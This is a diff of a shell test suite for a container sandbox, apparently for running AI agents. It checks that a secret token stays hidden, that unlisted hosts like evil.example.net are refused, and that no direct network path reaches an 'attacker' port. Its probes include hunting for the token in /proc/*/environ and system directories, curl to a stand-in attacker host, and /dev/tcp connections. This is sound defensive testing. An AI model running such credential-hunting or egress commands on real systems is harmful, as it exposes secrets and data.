@@ -29,19 +29,22 @@ is "$(cat out)" 200 'by the bottle'
 is "$(arrived api '[.[] | select(.target == "/bytes/20") | .headers[] | select(.[0] | ascii_downcase == "authorization") | .[1]] | join(",")')" \
 	"Bearer $BB_TEST_TOKEN" 'and the credential that arrives is the real one'
 bottle 0 'it is nowhere inside' 'env; cat /proc/*/environ; cat /proc/1/cmdline; grep -rs "$(echo '"$(printf %s "$BB_TEST_TOKEN" | tail -c 20)"')" /etc /opt /run /tmp /home || :'
-unlike "$(tr '\0' '\n' <out | grep -av '^BOT_BOTTLE_PROMPT')" "$(printf %s "$BB_TEST_TOKEN" | head -c 20)" 'not in an environment, not in a file'
+unlike "$(tr '\0' '\n' <out | grep -av '^BOT_BOTTLE_PROMPT')" "$(printf %s "$BB_TEST_TOKEN" | head -c 20)" \
+	'not in an environment, not in a file'
 
 bottle 0 'what no route lists is refused' 'curl -sS -o answer -w "%{http_code} " https://evil.example.net/; cat answer'
 like "$(cat out)" "^403 'evil.example.net' is in no route" 'by name'
 bottle 0 'and nothing is reached directly' "for port in $evil_port $api_port; do
-	(exec 3<>/dev/tcp/$host/\$port) 2>/dev/null && echo connected; (echo x >/dev/udp/$host/\$port) 2>/dev/null && echo sent
+	(exec 3<>/dev/tcp/$host/\$port) 2>/dev/null && echo connected
+	(echo x >/dev/udp/$host/\$port) 2>/dev/null && echo sent
 done; curl --noproxy '*' -sS --max-time 5 http://$host:$evil_port/ ; cat /sys/class/net/*/address; true"
 is "$(cat out)" '00:00:00:00:00:00' 'there is a loopback interface and no other'
 is "$(wc -c <evil.arrived | tr -d ' ')" 0 'nothing has arrived at the attacker'
 
 mkdir -p project
 echo 'the only copy' >project/precious
-(cd project && bb start tester --backend docker --yes --headless --cwd --prompt 'pwd; cat precious; rm precious; ls -A; id -u' >../out 2>../err </dev/null)
+(cd project && bb start tester --backend docker \
+	--yes --headless --cwd --prompt 'pwd; cat precious; rm precious; ls -A; id -u' >../out 2>../err </dev/null)
 is "$? $(cat out)" '0 /home/node/workspace
 the only copy
 1000' 'the workspace is a copy'
@@ -92,7 +95,8 @@ for provider in shell claude; do
 	check "the provider $provider has a recipe of its image" test -f "$(jq -r .bottle.image.dockerfile out)"
 done
 
-printf '%s\n' 'expect start it\? \[y/N\] $' 'send y\n' 'expect \$ ?$' 'send tty; stty size; echo $((40 + 2))\n' 'expect /dev/pts/[0-9]+\r\n[0-9]+ [0-9]+\r\n42' \
+printf '%s\n' 'expect start it\? \[y/N\] $' 'send y\n' 'expect \$ ?$' 'send tty; stty size; echo $((40 + 2))\n' \
+	'expect /dev/pts/[0-9]+\r\n[0-9]+ [0-9]+\r\n42' \
 	'send exit 3\n' >script
 python3 "$BB_SOURCE/t/lib/terminal.py" script bb start tester --backend docker >shown 2>err
 is "$? $(cat err)" '3 ' 'on a terminal it is asked for, attached and ended'
